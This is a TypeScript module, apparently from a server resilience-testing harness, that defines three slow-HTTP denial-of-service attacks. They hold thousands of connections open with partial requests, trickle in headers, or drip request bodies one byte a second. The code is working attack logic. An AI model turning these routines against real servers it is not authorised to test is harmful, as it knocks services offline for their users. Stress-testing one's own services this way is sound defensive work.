import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { AddressedBrowser } from './addressedBrowser.ts';
import type { Attack, AttackContext, AttackTally } from './attack.ts';
import { repeatUntilEnd, openCountedConnection, requestBytes } from './wire.ts';

const AT_ONCE = 100;
const DRIP_MS = 1000;

/** Opens connections that each send `head`, and then `drop` every second if there is one. */
async function dripConnections(
  context: AttackContext,
  tally: AttackTally,
  connections: number,
  head: Buffer,
  drop = Buffer.alloc(0),
): Promise<void> {
  const holdConnection = async (): Promise<void> => {
    const socket = await openCountedConnection(context, tally);
    const closed = once(socket, 'close');
    socket.write(head);
    tally.sent++;
    while (drop.length > 0 && !socket.destroyed) {
      await Promise.race([sleep(DRIP_MS), closed]);
      socket.write(drop);
    }
    await closed;
  };
  for (let each = 0; each < connections; each++) {
    void repeatUntilEnd(context, holdConnection);
    if (each % AT_ONCE === 0) await sleep(10);
  }
}

async function dripRequestBodies(context: AttackContext, tally: AttackTally): Promise<void> {
  const { cookie } = await AddressedBrowser.atNode(context.url, context.address);
  const head = requestBytes(context, 'POST', '/api/shared', {
    headers: { cookie, 'content-type': 'application/json', 'content-length': '200000' },
  });
  await dripConnections(context, tally, context.scale(1500), head, Buffer.from(' '));
}

/** Attacks with connections that send their requests very slowly. */
export const SLOW_ATTACKS: readonly Attack[] = [
  {
    name: 'connections',
    says: '2,000 connections that begin a request and say no more',
    least: ({ scale }) => scale(2000),
    begin: async (context, tally) =>
      dripConnections(
        context,
        tally,
        context.scale(2000),
        Buffer.from('GET /api/tables HTTP/1.1\r\nHost: a\r\nX-Slow: '),
      ),
  },
  {
    name: 'slow-headers',
    says: '1,500 connections that add a header a second',
    least: ({ scale }) => scale(1500),
    begin: async (context, tally) =>
      dripConnections(
        context,
        tally,
        context.scale(1500),
        Buffer.from('GET /api/tables HTTP/1.1\r\nHost: a\r\n'),
        Buffer.from('X-Slow: 1\r\n'),
      ),
  },
  {
    name: 'slow-bodies',
    says: '1,500 connections of a guest that add a byte of a body a second',
    least: ({ scale }) => scale(1500),
    begin: dripRequestBodies,
  },
];
